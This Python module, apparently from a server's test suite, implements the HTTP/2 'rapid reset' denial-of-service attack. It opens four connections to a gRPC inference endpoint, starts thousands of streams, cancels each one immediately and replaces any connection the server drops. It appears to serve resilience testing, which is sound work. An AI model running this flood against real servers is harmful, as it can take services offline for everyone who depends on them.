"""HTTP/2 rapid reset: four connections open calls and reset them at once, as fast as they can."""

import select
import socket
import time
from contextlib import suppress

from tests.serving.attacks.target import Target
from tests.serving.http2 import (
    CANCEL,
    END_HEADERS,
    GREETING,
    HEADERS,
    RST_STREAM,
    connected,
    first_headers,
    frame,
    resets,
)

CONNECTIONS = 4
BATCH = 2000
# Stream numbers have 31 bits.
LAST_STREAM = 2**31 - 1 - 2 * BATCH
PATH = "/inference.GRPCInferenceService/ModelInfer"


class _Connection:
    def __init__(self, address: str) -> None:
        self.socket = connected(address)
        self.stream = 3
        self.left = memoryview(
            GREETING + frame(HEADERS, END_HEADERS, 1, first_headers(PATH)) + frame(RST_STREAM, 0, 1, CANCEL)
        )
        self.socket.setblocking(False)

    def write(self) -> int:
        """Send what the socket takes. Returns how many calls were begun."""
        begun = 0
        if not self.left:
            self.left = memoryview(resets(self.stream, BATCH))
            self.stream += 2 * BATCH
            begun = BATCH
        self.left = self.left[self.socket.send(self.left) :]
        return begun

    def read(self) -> None:
        """Drop what arrived. Raises `OSError` if the server closed the connection."""
        if not self.socket.recv(2**20):
            raise ConnectionResetError


def attack(target: Target, until: float) -> int:
    """Reset calls; a connection that the server closes is replaced."""
    connections: dict[socket.socket, _Connection] = {}
    sent = 0
    while time.monotonic() < until:
        while len(connections) < CONNECTIONS:
            fresh = _Connection(target.grpc)
            connections[fresh.socket] = fresh
        readable, writable, _ = select.select(connections, connections, [], 0.1)
        for ready in {*readable, *writable}:
            connection = connections[ready]
            try:
                with suppress(BlockingIOError):
                    sent += connection.write()
                with suppress(BlockingIOError):
                    connection.read()
            except OSError:
                del connections[ready]
            if connection.stream > LAST_STREAM:
                connections.pop(ready, None)
            if ready not in connections:
                ready.close()
    for ready in connections:
        ready.close()
    return sent
